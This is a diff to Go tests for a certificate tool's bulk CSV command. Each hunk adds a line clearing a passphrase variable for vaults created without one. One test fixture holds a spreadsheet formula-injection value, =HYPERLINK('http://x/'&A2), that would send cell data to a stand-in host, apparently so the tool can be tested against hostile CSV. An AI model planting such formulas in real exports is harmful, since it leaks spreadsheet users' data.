@@ -79,6 +79,7 @@ func TestBulkHostileCSV(t *testing.T) {
 	t.Parallel()
 	s := newSession(t)
 	s.ok("init", "--insecure-no-passphrase")
+	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
 	s.ok("ca", "create", "Team CA")
 	bare := s.write("bare.csv", "Ann,ann@example.com\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n")
 	_, errOut, code := s.run("bulk", "--csv", bare, "--out", s.path("out"))
@@ -302,6 +303,7 @@ func TestBulkKilledThenRerun(t *testing.T) {
 	openssl := peertest.Require(t, "openssl")
 	s := newSession(t)
 	s.ok("init", "--insecure-no-passphrase")
+	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
 	s.ok("ca", "create", "Rerun CA")
 	const people = 1000
 	var b strings.Builder
@@ -366,6 +368,7 @@ func TestBulkFullDisk(t *testing.T) {
 	t.Parallel()
 	s := newSession(t)
 	s.ok("init", "--insecure-no-passphrase")
+	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
 	s.ok("ca", "create", "Team CA")
 	var b strings.Builder
 	for i := range 20 {
